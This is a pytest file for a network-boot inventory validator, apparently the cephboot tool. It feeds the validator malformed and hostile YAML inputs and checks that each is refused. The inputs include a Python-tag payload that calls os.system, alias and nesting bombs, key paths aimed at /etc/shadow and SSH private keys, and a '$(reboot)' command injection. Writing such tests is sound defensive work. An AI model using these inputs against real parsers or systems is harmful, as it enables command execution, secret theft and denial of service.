    "duplicate-key-in-profile": (append(RACK, "map:\n  deadline: 1\n"), ["hosts/profiles/rack-a.yaml", "duplicate key 'map'"]),
    "site-yml-beside-site-yaml": (write("site.yml", "ceph:\n  fs_name: other\n"), ["hosts/site.yml: is never read", "hosts/site.yaml"]),
    "two-files-one-profile": (write("profiles/rack-a.yml", "map:\n  deadline: 1\n"), ["hosts/profiles/rack-a.yaml and hosts/profiles/rack-a.yml both define profile 'rack-a'"]),
    # resource abuse
    "alias-bomb-in-profile": (write(RACK, bomb()), ["hosts/profiles/rack-a.yaml", "more than 100000 values"]),
    "recursive-alias": (write(N, "kernel_args: &a [*a]\n"), ["hosts/nodes/notus.yaml"]),
    "long-value": (to_notus("client: " + "c" * 900_000 + "\n"), ["notus.yaml: client", "at most 1024 characters"]),
    "long-key": (to_notus("k" * 500_000 + ": 1\n"), ["hosts/nodes/notus.yaml: not valid YAML"], ["missing", "k" * 100]),
    "long-unknown-key": (to_notus("k" * 1000 + ": 1\n"), ["notus.yaml: 'kkkk", "unknown key"], ["k" * 100]),
    "huge-int": (to_notus("link_timeout: " + "9" * 5000 + "\n"), ["hosts/nodes/notus.yaml"]),
    "huge-int-in-string-key": (to_notus("rbd:\n  namespace: " + "9" * 30 + "\n"), ["notus.yaml: rbd.namespace", "too large"]),
    "yaml-date": (to_notus("client: 2024-01-01\n"), ["hosts/nodes/notus.yaml", "date", "write it in quotes"]),
    "yaml-binary": (to_notus("client: !!binary aGVsbG8=\n"), ["hosts/nodes/notus.yaml", "bytes"]),
    "yaml-python-tag": (to_notus("client: !!python/object/apply:os.system [id]\n"), ["hosts/nodes/notus.yaml", "not valid YAML"]),
    "nesting-400000-deep": (write(N, "kernel_args: " + "[" * 400_000 + "]" * 400_000 + "\n"), ["hosts/nodes/notus.yaml: not valid YAML", "nesting depth"]),
    "too-many-items": (to_notus("+kernel_args: [" + ", ".join(["q"] * 300) + "]\n"), ["notus.yaml: kernel_args", "at most 256 items"]),
    # odd trees
    "profiles-is-a-file": (both(in_site("hosts/profiles", shutil.rmtree), write("profiles", "x\n")), ["hosts/profiles: is a regular file; expected a folder"]),
    "host-file-is-a-folder": (folder("nodes/extra.yaml"), ["hosts/nodes/extra.yaml: is a folder, not a regular file"]),
    "site-is-a-folder": (folder(SITE), ["hosts/site.yaml: is a folder, not a regular file"]),
    "host-file-is-a-device": (link("nodes/notus.yaml", "/dev/zero"), ["hosts/nodes/notus.yaml: is a device"]),
    "keyring-is-a-fifo": (fifo("keys/notus.keyring"), ["notus.yaml: keyring", "is a FIFO, not a regular file"]),
    "keyring-is-a-folder": (folder("keys/notus.keyring"), ["notus.yaml: keyring", "is a folder, not a regular file"]),
    "hosts-is-a-file": (both(in_site("hosts", shutil.rmtree), in_site("hosts", lambda p: p.write_text("x"))), ["hosts: is a regular file; expected the inventory folder"]),
    "gid-too-large": (site_key("publish", "  group: 4294967295\n"), ["hosts/site.yaml: publish.group", "gid from 0"]),
    "parallel-huge": (site_key("publish", "  parallel: 100000000000000000000000\n"), ["hosts/site.yaml: publish.parallel", "from 1 to 64"]),
    "secret-mode-huge": (site_key("publish", "  secret_mode: 100000000000000000000000\n"), ["hosts/site.yaml: publish.secret_mode"]),
    # late checks
    "kernel-six-ten": (to_notus("kernel: 6.10\n"), ["notus.yaml: kernel", "the number 6.1", "write it in quotes"]),
    "kernel-pinned-in-profile": (append(SECURE, "kernel: 1.2.3-4-amd64\n"), ["hosts/profiles/secure.yaml: kernel: '1.2.3-4-amd64' is not installed"]),
    "boot-dir-empty-string": (site_key("kernels", '  boot_dir: ""\n'), ["hosts/site.yaml: kernels.boot_dir", "empty string"]),
    "boot-dir-missing": (site_key("kernels", "  boot_dir: /nonexistent/boot\n"), ["hosts/site.yaml: kernels.boot_dir", "no kernel is installed in /nonexistent/boot"]),
    # names that reach outputs
    "profile-name-uppercase": (write("profiles/Rack-B.yaml", "map:\n  deadline: 1\n"), ["hosts/profiles/Rack-B.yaml", "not a usable profile name"]),
    "profile-name-with-space": (write("profiles/rack b.yaml", "map:\n  deadline: 1\n"), ["hosts/profiles/rack b.yaml", "not a usable profile name"]),
    "host-name-too-long": (write("nodes/" + "h" * 64 + ".yaml", "nics: {}\n"), ["not a usable host name", "1-63 characters"]),
    "host-name-leading-dash": (write("nodes/-x.yaml", "nics: {}\n"), ["hosts/nodes/-x.yaml", "not a usable host name"]),
    # isolation (issue 16, finding 4)
    "two-hosts-one-namespace-by-profile": (both(append(RACK, "rbd:\n  namespace: shared\n"), edit(B, "map:", "rbd:\n  image: other\nmap:")), ["hosts/profiles/rack-a.yaml: rbd.namespace: RBD namespace rbd/shared is already used by host", "gets it from this file"]),
    "boot-path-above-others": (to_notus("boot_path: /hosts\n"), ["boot_path", "is inside /hosts, the /boot of host 'notus' (hosts/nodes/notus.yaml: boot_path)"]),
    "boot-path-inside-the-tree": (to_notus("boot_path: /tree/hosts/notus\n"), ["notus.yaml: boot_path", "is inside the published boot tree /tree"]),
    "boot-path-above-the-tree": (to_notus("boot_path: /\n"), ["notus.yaml: boot_path", "is above the published boot tree"]),
    "boot-path-equal": (to_notus("boot_path: /hosts/zephyr\n"), ["boot_path: CephFS /boot path /hosts/zephyr is already used by host", "hosts/nodes/notus.yaml", "hosts/nodes/zephyr.yaml"]),
    "boot-tree-empty": (edit(SITE, "boot_tree: /tree", 'boot_tree: ""'), ["hosts/site.yaml: ceph.boot_tree", "cannot be the file system's root"]),
    "client-publisher": (to_notus("client: cephboot-publisher\n"), ["notus.yaml: client", "'cephboot-publisher' is reserved"]),
    "client-bootstrap": (to_notus("client: bootstrap-osd\n"), ["notus.yaml: client", "is reserved"]),
    "client-crash": (to_notus("client: crash\n"), ["notus.yaml: client", "is reserved"]),
    "client-admin-from-defaults": (edit(SITE, "  kernel: latest\n", "  kernel: latest\n  client: admin\n"), ["hosts/site.yaml: client", "'admin' is reserved"]),
    "rootfs-source-etc": (to_notus("rootfs:\n  source: /etc\n"), ["notus.yaml: rootfs.source", "system folder"]),
    "rootfs-source-usr-dotdot": (to_notus("rootfs:\n  source: /usr/lib/..\n"), ["notus.yaml: rootfs.source", "system folder"]),
    "rootfs-source-holds-hosts": (to_notus("rootfs:\n  source: .\n"), ["notus.yaml: rootfs.source", "holds hosts/ and every host's secrets"]),
    "rootfs-source-the-site": (to_notus("rootfs:\n  source: ..\n"), ["notus.yaml: rootfs.source", "holds hosts/"]),
    "image-root-is-usr": (to_notus("image_root: /usr\n"), ["notus.yaml: image_root", "system folder"]),
    # key paths (issue 16, finding 6)
    "keyring-dotdot": (to_notus("keyring: ../elsewhere.keyring\n"), ["notus.yaml: keyring", "no '..'"]),
    "keyring-in-profile-absolute": (append(RACK, "keyring: /root/.ssh/id_rsa\n"), ["hosts/profiles/rack-a.yaml: keyring", "not an absolute one"]),
    "luks-keyfile-absolute": (edit(B, "keyfile: keys/boreas.luks", "keyfile: /etc/shadow"), ["boreas.yaml: luks.keyfile", "not an absolute one"]),
    "luks-keyfile-link-out": (link("keys/boreas.luks", "/etc/hostname"), ["boreas.yaml: luks.keyfile", "leads out of hosts/"]),
    "machine-secret-absolute": (to_notus("secrets:\n  machine_secret: /etc/machine-id\n"), ["notus.yaml: secrets.machine_secret", "not an absolute one"]),
    "machine-secret-link-out": (link("keys/notus.secret", "/etc/hostname"), ["notus.yaml: secrets.machine_secret", "leads out of hosts/"]),
    "machine-secret-fifo": (fifo("keys/zephyr.secret"), ["zephyr.yaml: secrets.machine_secret", "is a FIFO, not a regular file"]),
    "keys-folder-link-out": (lambda site: (shutil.move(site.hosts / "keys", site.root / "keys-elsewhere"), (site.hosts / "keys").symlink_to(site.root / "keys-elsewhere")), ["keyring", "leads out of hosts/"]),
    # messages
    "profile-sets-bad-mac-list": (append(RACK, "nics:\n  user:\n    macs: [\"zz\"]\n    address: dhcp\n"), ["hosts/profiles/rack-a.yaml: nics.user.macs"]),
    # the TFTP server the ISC/Kea snippets hand out as next-server
    "tftp-server-a-name": (site_key("dhcp", "  tftp_server: tftp.example.org\n"), ["hosts/site.yaml: dhcp.tftp_server", "expected an IPv4 address like 192.0.2.5"]),
    "tftp-server-with-prefix": (site_key("dhcp", "  tftp_server: 192.0.2.5/24\n"), ["hosts/site.yaml: dhcp.tftp_server", "expected an IPv4 address like 192.0.2.5"]),
    "tftp-server-loopback": (site_key("dhcp", "  tftp_server: 127.0.0.1\n"), ["hosts/site.yaml: dhcp.tftp_server", "127.0.0.1 is a loopback address"]),
    "tftp-server-broadcast": (site_key("dhcp", "  tftp_server: 255.255.255.255\n"), ["hosts/site.yaml: dhcp.tftp_server", "the broadcast address"]),
    "not-a-keyring-binary": (write("keys/notus.keyring", b"\x00\xffPRIVATE KEY[section-of-a-secret]\n"), ["notus.yaml: keyring"], ["section-of-a-secret", "PRIVATE"]),
    # secrets.mode: address needs an address the boot NIC's DHCP reservation gives it
    "address-mode-misspelt": (to_notus("secrets:\n  mode: adress\n"), ["notus.yaml: secrets.mode", "expected one of: machine, address, clear"]),
    "address-mode-without-dhcp-network": (
        lambda site: (site.edit(SITE, "  network: 192.0.2.0/24", "  mode: proxy"), append(Z, "secrets:\n  mode: address\n")(site)),
        ["hosts/nodes/zephyr.yaml: secrets.mode: secrets.mode: address (hosts/nodes/zephyr.yaml)", "dhcp.network is not set in hosts/site.yaml"]),
    "address-mode-outside-the-boot-network": (
        lambda site: (site.edit(SITE, "  network: 192.0.2.0/24", "  network: 203.0.113.0/24"), append(Z, "secrets:\n  mode: address\n")(site)),
        ["hosts/nodes/zephyr.yaml: nics.ceph.address: '192.0.2.21/24': secrets.mode: address", "expected a static address inside dhcp.network 203.0.113.0/24"]),
    "address-mode-user-nic-only-on-the-boot-network": (
        lambda site: (site.edit(SITE, "  network: 192.0.2.0/24", "  network: 198.51.100.0/24"), append(Z, "secrets:\n  mode: address\n")(site)),
        ["zephyr.yaml: nics.ceph.address: '192.0.2.21/24'", "inside dhcp.network 198.51.100.0/24"]),
    # stop 24 audit: an integer YAML 1.1 reads in another form than decimal is no name and no number
    **{f"not-decimal-{key.replace('.', '-')}": (mutation, [line]) for key, mutation, line in [
        ("rbd.pool", to_notus("rbd:\n  pool: 0x1f\n"), "notus.yaml: rbd.pool: 0x1f (line 10) is read by YAML 1.1 as the hexadecimal number 31: write it as a decimal number, or in quotes for a name"),
        ("rbd.namespace", to_notus("rbd:\n  namespace: 1_000\n"), "notus.yaml: rbd.namespace: 1_000 (line 10) is read by YAML 1.1 as the number 1000: write it as a decimal number, or in quotes for a name"),
        ("client", to_notus("client: 0b11\n"), "notus.yaml: client: 0b11 (line 9) is read by YAML 1.1 as the binary number 3: write it as a decimal number, or in quotes for a name"),
        ("link_timeout", to_notus("link_timeout: 1:30\n"), "notus.yaml: link_timeout: 1:30 (line 9) is read by YAML 1.1 as the sexagesimal (base 60) number 90: write it as a decimal number, or in quotes for a name"),
        ("map.deadline", edit(RACK, "deadline: 180", "deadline: 0100"), "hosts/profiles/rack-a.yaml: map.deadline: 0100 (line 4) is read by YAML 1.1 as the octal number 64: write it as a decimal number, or in quotes for a name or a file mode"),
        ("defaults.map.deadline", edit(SITE, "deadline: 120", "deadline: 0100"), "hosts/site.yaml: defaults.map.deadline: 0100 (line 24) is read by YAML 1.1 as the octal number 64"),
        ("kernel_args", edit(N, "panic=30, net.ifnames=0", "panic=30, 0100"), "notus.yaml: kernel_args: item 2: 0100 (line 7) is read by YAML 1.1 as the octal number 64: write it as a decimal number"),
        ("publish.group", site_key("publish", "  group: +33\n"), "hosts/site.yaml: publish.group: +33 (line 14) is read by YAML 1.1 as the number 33: write it as a decimal number, or in quotes for a name"),
        ("publish.secret_mode", site_key("publish", "  secret_mode: 0640\n"), "hosts/site.yaml: publish.secret_mode: 0640 (line 14) is read by YAML 1.1 as the octal number 416: write it as a decimal number, or in quotes for a name or a file mode"),
    ]},
    # other YAML 1.1 readings of what looks like a name
    "name-yes": (to_notus("client: yes\n"), ["notus.yaml: client: True: expected a string, got the boolean true (YAML 1.1 reads yes, no, on, off, true and false, in any case, as booleans): write it in quotes"]),
    "name-on-in-a-list": (edit(SECURE, "ms_mode=secure", "On"), ["hosts/profiles/secure.yaml: map.options: item 0 (True): expected a string, got the boolean true"]),
    "name-null-in-a-list": (edit(N, "panic=30, net.ifnames=0", "panic=30, ~"), ["notus.yaml: kernel_args: item 2 (None): expected a string, got null (YAML reads ~, null and nothing as null): write it in quotes"]),
    "name-a-date": (to_notus("rbd:\n  image: 2024-01-01\n"), ["hosts/nodes/notus.yaml: rbd.image: 2024-01-01 is read by YAML 1.1 as a date: write it in quotes if it is text"]),
    # PyYAML's messages whole, on one line, with the line
    "duplicate-key-said-whole": (append(N, "kernel_args: [quiet]\n"),
        ["hosts/nodes/notus.yaml: not valid YAML (line 9, column 1): duplicate key 'kernel_args' (first at line 7): YAML would keep only the last one; merge the two"]),
    "not-utf-8": (lambda site: (site.hosts / N).write_bytes((site.hosts / N).read_bytes() + b"client: caf\xff\n"),
        ["hosts/nodes/notus.yaml: not valid YAML (line 9): unacceptable character #x00ff: invalid leading UTF-8 octet"]),
    "duplicate-key-escaped": (to_notus('"k\u200b": 1\n"k\u200b": 2\n'), ["hosts/nodes/notus.yaml: not valid YAML (line 10, column 1): duplicate key 'k\\u200b' (first at line 9)"], ["\u200b"]),
    "unknown-tag-very-long": (to_notus("client: !" + "x" * 5000 + " v\n"), ["hosts/nodes/notus.yaml: not valid YAML (line 9, column 9): could not determine a constructor for the tag '!xxx", "xxx... (5049 characters)"], ["x" * 1000]),
    "flow-list-unclosed": (to_notus("client: [a\n"), ["hosts/nodes/notus.yaml: not valid YAML (line 10, column 1): did not find expected ',' or ']' (while parsing a flow sequence at line 9)"]),
    # values that break the generated config
    "dhcp-range-broadcast": (site_key("dhcp", "  range: [192.0.2.100, 192.0.2.255]\n"), ["hosts/site.yaml: dhcp.range: 192.0.2.255 is the broadcast address of dhcp.network 192.0.2.0/24; expected [first, last] host addresses inside it"]),
    "dhcp-range-half-outside": (site_key("dhcp", "  range: [192.0.2.100, 192.0.3.5]\n"), ["hosts/site.yaml: dhcp.range: 192.0.3.5 is outside dhcp.network 192.0.2.0/24"]),
    "dhcp-router-network-address": (site_key("dhcp", "  router: 192.0.2.0\n"), ["hosts/site.yaml: dhcp.router: 192.0.2.0 is the network address of dhcp.network 192.0.2.0/24; expected a gateway address inside it"]),
    "web-root-dotdot": (site_key("publish", "  web_root: /srv/../etc\n"), ["hosts/site.yaml: publish.web_root: '/srv/../etc': expected an absolute path without '.' or '..' parts, like /srv/cephboot/tree"]),
    "web-root-relative": (site_key("publish", "  web_root: srv/tree\n"), ["hosts/site.yaml: publish.web_root: 'srv/tree': expected an absolute path"]),
    "web-root-dot": (site_key("publish", "  web_root: /srv/./tree\n"), ["hosts/site.yaml: publish.web_root: '/srv/./tree': expected an absolute path"]),
    "name-in-defaults": (edit(SITE, "  kernel: latest\n", "  kernel: latest\n  name: zephyr\n"),
        ["hosts/site.yaml: defaults.name: 'zephyr': a host's name is its file name (hosts/nodes/NAME.yaml), so a name here would be ignored; set `name` in a host's own file only, or not at all"]),
    "name-in-a-profile": (append(RACK, "name: rack-a\n"), ["hosts/profiles/rack-a.yaml: name: 'rack-a': a host's name is its file name"]),
    # Debian's signed GRUB has only TFTP, which serves the tree to any address
    "address-mode-with-grub-secureboot": (append(Z, "secrets:\n  mode: address\nboot:\n  loader: grub-secureboot\n"),
        ["hosts/nodes/zephyr.yaml: boot.loader: grub-secureboot: secrets.mode: address", "by TFTP, which has no per-address rule",
         "use secrets.mode: machine"]),
}


@pytest.fixture(scope="module")
def the_example_site_folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder holding the example site's hosts/ with its secrets, made once per module."""
    return copy_site(PROJECT, tmp_path_factory.mktemp("example") / "site").root


def test_there_are_well_over_fifty_cases() -> None:
    assert len(RUN) + len(LOAD) >= 150 and not set(RUN) & set(LOAD)


def _fragments(case: Case) -> tuple[list[str], list[str]]:
    return case[1], (case[2] if len(case) == 3 else [])  # type: ignore[misc]


def _tree_digest(root: Path) -> dict[str, str]:
    """Content (or link target, or kind) of everything under ``root``, FIFOs never opened."""
    out = {}
    for dirpath, dirs, files in os.walk(root):
        for name in files + [d for d in dirs if os.path.islink(os.path.join(dirpath, d))]:
            p = os.path.join(dirpath, name)
            st = os.lstat(p)
            if os.path.islink(p):
                out[p] = "-> " + os.readlink(p)
            elif not os.path.isfile(p) or os.stat(p).st_mode & 0o170000 != 0o100000:
                out[p] = f"special {st.st_mode:o}"
            else:
                out[p] = f"{st.st_mtime_ns} " + hashlib.sha256(Path(p).read_bytes()).hexdigest()
    return out


@pytest.mark.parametrize("case", sorted(RUN))
def test_bad_inventory_is_refused_by_doit_and_changes_nothing(case: str, the_built_example: Site, tmp_path: Path) -> None:
    mutate, (wanted, unwanted) = RUN[case][0], _fragments(RUN[case])
    # big files (base initrd, kernel) hard-linked: every writer replaces files by rename
    shutil.copytree(the_built_example.root, tmp_path / "site", symlinks=True,
                    copy_function=lambda s, d: os.link(s, d) if os.path.getsize(s) > 1 << 20 else shutil.copy2(s, d))
    site = Site(tmp_path / "site")
    before = site.snapshot()
    assert any(k.startswith("build/publish/") for k in before), "the baseline published nothing"
    mutate(site)
    hosts_before = _tree_digest(site.hosts)
    run = site.doit(check=False)
    assert run.returncode != 0
    assert not run.ran, f"tasks ran despite the bad inventory: {run.ran}"
    assert run.stderr.startswith("cephboot: invalid inventory:\n"), run.stderr[:2000]
    for fragment in wanted:
        assert fragment in run.stderr, f"{fragment!r} not in:\n{run.stderr[:3000]}"
    for fragment in unwanted:
        assert fragment not in run.stderr, f"{fragment!r} must not be in:\n{run.stderr[:3000]}"
    assert "Traceback" not in run.stderr and len(run.stderr) < 20_000
    assert site.snapshot() == before
    assert _tree_digest(site.hosts) == hosts_before


@pytest.mark.parametrize("case", sorted(LOAD))
def test_bad_inventory_is_refused_by_the_loader(case: str, the_example_site_folder: Path, tmp_path: Path) -> None:
    mutate, (wanted, unwanted) = LOAD[case][0], _fragments(LOAD[case])
    shutil.copytree(the_example_site_folder, tmp_path / "site", symlinks=True)
    site = Site(tmp_path / "site")
    mutate(site)
    with pytest.raises(inventory.InventoryError) as e:
        inventory.load(site.root, use_cache=False)
    text = str(e.value)
    assert text.startswith("invalid inventory:\n  ")
    for fragment in wanted:
        assert fragment in text, f"{fragment!r} not in:\n{text[:3000]}"
    for fragment in unwanted:
        assert fragment not in text, f"{fragment!r} must not be in:\n{text[:3000]}"
    assert len(text) < 20_000
    for p in e.value.problems:  # every problem names a file of the inventory
        assert p.file.startswith("hosts"), p
    assert not (site.root / "build" / "publish").exists()


def test_a_bad_default_is_said_once_not_once_per_host(the_example_site_folder: Path, tmp_path: Path) -> None:
    shutil.copytree(the_example_site_folder, tmp_path / "site", symlinks=True)
    site = Site(tmp_path / "site")
    site.edit(SITE, "  kernel: latest\n", "  kernel: latest\n  link_timeout: soon\n  profiles: [rack-a]\n")  # every host gets both
    with pytest.raises(inventory.InventoryError) as e:
        inventory.load(site.root, use_cache=False)
    assert len(list((site.hosts / "nodes").glob("*.yaml"))) == 3  # said once, not three times
    assert str(e.value).splitlines() == [
        "invalid inventory:",
        "  hosts/site.yaml: profiles: unknown key; expected one of: " + ", ".join(inventory.schema.HOST.fields),
        "  hosts/site.yaml: link_timeout: 'soon': expected a whole number of seconds from 1 to 600",
    ]
    assert len(e.value.problems) == 2


def test_problems_past_the_first_fifty_are_counted_not_listed() -> None:
    problems = [inventory.Problem(f"hosts/nodes/h{i % 70}.yaml", "client", "expected a Ceph name") for i in range(140)]  # each twice
    e = inventory.InventoryError(problems)
    assert e.problems == problems[:70]
    lines = str(e).splitlines()
    assert lines[:3] == ["invalid inventory:", "  hosts/nodes/h0.yaml: client: expected a Ceph name", "  hosts/nodes/h1.yaml: client: expected a Ceph name"]
    assert lines[50:] == ["  hosts/nodes/h49.yaml: client: expected a Ceph name", "  ... and 20 more problems"]
    assert str(inventory.InventoryError(problems[:50])).splitlines()[-1] == "  hosts/nodes/h49.yaml: client: expected a Ceph name"


# --- what the generated files may hold --------------------------------------------------

# C0 controls but tab and newline, DEL, C1 controls, and what Unicode calls format characters or
# line/paragraph separators (bidi overrides, zero-width), surrogates, private use, unassigned
_NEVER_IN_TEXT = {"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"}
# files whose readers print them to firmware consoles: printable ASCII (and newlines) only
_ASCII_FILES = re.compile(r"(\.ipxe|grub\.cfg|dhcpd\.conf|\.json)$")


def _forbidden_in(rel: str, data: bytes) -> list[str]:
    text = data.decode()  # every generated text file is UTF-8 (a UnicodeDecodeError fails the test)
    bad = [f"{rel}: {c!r} at {i}" for i, c in enumerate(text) if c not in "\t\n" and unicodedata.category(c) in _NEVER_IN_TEXT]
    if _ASCII_FILES.search(rel):
        bad += [f"{rel}: non-ASCII {c!r} at {i}" for i, c in enumerate(text) if not c.isascii()]
    return bad


@pytest.mark.parametrize("loaders", ["grub-secureboot", "address-mode"])
def test_no_generated_file_holds_a_control_or_format_character(loaders: str, the_example_site: Site) -> None:
    """Every text file that render, dnsmasq, nginx and dhcp-snippets write, for a site that uses the
    widest values the inventory allows (a non-ASCII web_root, an IPv6 base with a port and '~',
    server-mode reservations; a grub-secureboot host, or an address-mode host: one site cannot have
    both): no control or Unicode format character anywhere, and printable ASCII in what iPXE, GRUB
    and the DHCP servers read."""
    site = the_example_site
    site.edit(SITE, "http_base: http://192.0.2.5/boot", "http_base: http://[2001:db8::5]:8080/boot.d/~tree")
    site.edit(SITE, "  network: 192.0.2.0/24", "  network: 192.0.2.0/24\n  mode: server\n  range: [192.0.2.100, 192.0.2.199]\n  tftp_server: 192.0.2.5")
    site.edit(SITE, "  target: build/publish", "  target: build/publish\n  web_root: /srv/böot/ärbre-ĕ_1.2+x")
    site.edit(N, "net.ifnames=0", '"x=a:b/c.d,e+f%g@h^i=j"')
    if loaders == "grub-secureboot":
        append(SECURE, "boot:\n  loader: grub-secureboot\n")(site)
    else:
        append(Z, "secrets:\n  mode: address\n")(site)
    run = site.doit("render", "nginx", "dhcp-snippets", check=False)
    assert run.returncode == 0, run.stdout + run.stderr
    # the tree's tftp/ takes Debian's iPXE (the dnsmasq task depends on it): dnsmasq.conf from its own function
    from tasks.dnsmasq import config_text

    files = {str(p.relative_to(site.build)): p.read_bytes() for top in ("site", "hosts") for p in sorted((site.build / top).rglob("*"))
             if p.is_file() and not p.name.endswith((".luks", ".cpio", "sealed", ".stamp")) and "etc/cephboot" not in str(p)}
    files["site/dnsmasq.conf"] = config_text(inventory.load(site.root, use_cache=False)).encode()
    assert {"site/grub.cfg", "hosts/boreas/grub.cfg"} <= set(files) if loaders == "grub-secureboot" else "geo $cephboot_client_host" in files["site/nginx.conf"].decode()
    assert {"site/boot.ipxe", "site/nginx.conf", "site/dhcpd.conf", "site/kea-dhcp4/dhcp4.json", "site/dnsmasq.conf", "hosts/notus/boot.ipxe", "hosts/zephyr/initramfs-tools/conf.d/cephboot", "hosts/boreas/rootfs/etc/crypttab",
            "hosts/zephyr/rootfs/etc/fstab", "hosts/zephyr/rootfs/etc/ceph/ceph.conf"} <= set(files), sorted(files)
    assert "/srv/böot/ärbre-ĕ_1.2+x" in files["site/nginx.conf"].decode() and "listen [2001:db8::5]:8080;" in files["site/nginx.conf"].decode()
    assert "location /boot.d/~tree/ {" in files["site/nginx.conf"].decode()
    assert ("location ~ ^/boot\\.d/\\~tree/+hosts/" in files["site/nginx.conf"].decode()) == (loaders == "address-mode")
    assert [bad for rel, data in files.items() for bad in _forbidden_in(rel, data)] == []


def test_the_scan_finds_what_it_looks_for() -> None:
    assert _forbidden_in("hosts/x/boot.ipxe", "a=\x9b31m é\u202e".encode()) == [
        "hosts/x/boot.ipxe: '\\x9b' at 2", "hosts/x/boot.ipxe: '\\u202e' at 8", "hosts/x/boot.ipxe: non-ASCII '\\x9b' at 2",
        "hosts/x/boot.ipxe: non-ASCII 'é' at 7", "hosts/x/boot.ipxe: non-ASCII '\\u202e' at 8"]
    assert _forbidden_in("site/nginx.conf", "alias /srv/böot/;\n\tx\u2028".encode()) == ["site/nginx.conf: '\\u2028' at 20"]


# --- a value that gets past the inventory but not a template's quoting --------------------------
# The inventory refuses every value above before any task runs; a template's filter is the second
# line. Each render path turns its refusal into one line naming the key, and writes nothing.

def _loaded(the_example_site: Site, monkeypatch: pytest.MonkeyPatch) -> inventory.Site:
    monkeypatch.chdir(the_example_site.root)  # outputs are relative to the site, as under doit
    return inventory.load(the_example_site.root, use_cache=False)


ZONE = "http://[fe80::1%a;$(reboot)'${x},b{}]/boot"  # the audit's value, as if the schema let it through


def test_every_render_path_names_the_key_of_a_value_its_template_refuses(the_example_site: Site, monkeypatch: pytest.MonkeyPatch) -> None:
    from tasks.dhcpsnippets import render_snippets
    from tasks.dnsmasq import render_dnsmasq
    from tasks.nginx import bound_hosts, render_nginx
    from tasks.render import render_host, render_site

    site = _loaded(the_example_site, monkeypatch)
    site.settings["pxe"]["http_base"] = ZONE
    site.settings["dhcp"]["tftp_server"] = "192.0.2.5"
    key = f"hosts/site.yaml: pxe.http_base: {ZONE!r} contains"
    results = {
        "nginx": render_nginx(site, bound_hosts(site)),
        "render:site": render_site(site),
        "render:hosts: notus": render_host(site, site.hosts["notus"]),
        "dhcp-snippets:dhcpd": render_snippets(site, "dhcpd"),
        "dhcp-snippets:kea": render_snippets(site, "kea"),
        "dnsmasq": render_dnsmasq(site),
    }
    for where, result in results.items():
        message = getattr(result, "message", repr(result))
        assert message.startswith(f"cephboot: {where}: {key} "), message
        assert "\n" not in message and "Traceback" not in message
    assert not (the_example_site.build / "site").exists() or not any((the_example_site.build / "site").rglob("*"))
    assert not (the_example_site.build / "hosts").exists() or not any((the_example_site.build / "hosts").rglob("*"))


def test_dnsmasq_names_the_key_it_refuses_not_always_the_tftp_root(the_example_site: Site, monkeypatch: pytest.MonkeyPatch) -> None:
    from tasks.dnsmasq import render_dnsmasq

    site = _loaded(the_example_site, monkeypatch)
    site.settings["pxe"]["uefi_loader"] = "snp,only.efi"
    failed = render_dnsmasq(site)
    assert failed.message == ("cephboot: dnsmasq: hosts/site.yaml: pxe.uefi_loader: 'snp,only.efi' contains ',', which is not "
                              "allowed in dnsmasq text (in templates/dnsmasq/dnsmasq.conf.j2)"), failed.message
    assert not (the_example_site.build / "site" / "dnsmasq.conf").exists()


def test_a_host_value_a_template_refuses_is_blamed_on_its_file_and_nothing_of_the_host_is_written(the_example_site: Site, monkeypatch: pytest.MonkeyPatch) -> None:
    """boreas's /boot path reaches fstab (no blanks), rendered after conf.d: refused, and conf.d is not
    written either; its LUKS name reaches the kernel command line, made before any template."""
    from tasks.render import render_host

    site = _loaded(the_example_site, monkeypatch)
    boreas = site.hosts["boreas"]
    boreas.updated(boot_path="/hosts/bo reas")
    failed = render_host(site, boreas)
    assert failed.message == ("cephboot: render:hosts: boreas: hosts/nodes/boreas.yaml: boot_path: '/hosts/bo reas' contains ' ' (control/space), "
                              "which is not allowed in fstab text (in templates/rootfs/etc/fstab.j2)"), failed.message
    assert not (the_example_site.build / "hosts" / "boreas").exists()
    boreas.updated(boot_path="/hosts/boreas", luks={**boreas.data["luks"], "name": "crypt(root)"})
    failed = render_host(site, boreas)
    assert failed.message == ("cephboot: render:hosts: boreas: hosts/nodes/boreas.yaml: luks.name: 'crypt(root)' contains '(', "
                              "which is not allowed in cmdline text"), failed.message
    assert not (the_example_site.build / "hosts" / "boreas").exists()


def test_a_template_refusal_under_doit_is_one_line_and_the_hosts_files_are_not_written(the_example_site: Site, tmp_path: Path) -> None:
    """Through a real `doit render`, with a template that is stricter than the inventory (a copy of the code):
    exit non-zero, one `cephboot:` line naming notus's file and key, no traceback, nothing of notus written."""
    project = copy_project(tmp_path / "code")
    t = project / "templates/tree/hosts/HOST/boot.ipxe.j2"
    t.write_text(t.read_text() + '{% if h.name == "notus" %}# {{ h.kernel_args[0] | dnsmasq }}\n{% endif %}')
    site = Site(the_example_site.root, project)
    run = site.doit("render", check=False)
    assert run.returncode != 0
    assert "Traceback" not in run.stderr + run.stdout
    lines = [line for line in (run.stdout + run.stderr).splitlines() if "kernel_args" in line]
    assert lines == ["cephboot: render:hosts: notus: hosts/nodes/notus.yaml: kernel_args: 'console=ttyS0,115200n8' contains ',', "
                     "which is not allowed in dnsmasq text (in templates/tree/hosts/HOST/boot.ipxe.j2)"], run.stdout + run.stderr
    assert not (site.build / "hosts" / "notus").exists()
    assert not any(p.read_text().endswith("hosts/notus/boot.ipxe\n") for p in (site.build / "site" / "ipxe").rglob("*.ipxe"))
